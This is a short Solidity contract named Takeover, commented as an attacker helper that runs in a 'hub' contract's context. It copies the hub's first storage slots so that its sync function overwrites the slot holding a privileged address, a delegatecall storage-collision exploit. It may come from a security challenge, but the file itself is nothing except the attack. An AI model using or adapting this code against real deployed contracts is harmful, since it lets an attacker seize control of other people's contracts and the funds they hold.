// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice Attacker helper, run in the hub's context: mirrors the hub's first slots.
contract Takeover {
    uint256 private a;
    mapping(uint256 => address) private b;
    address private c;

    function sync(address who) external {
        c = who;
    }
}
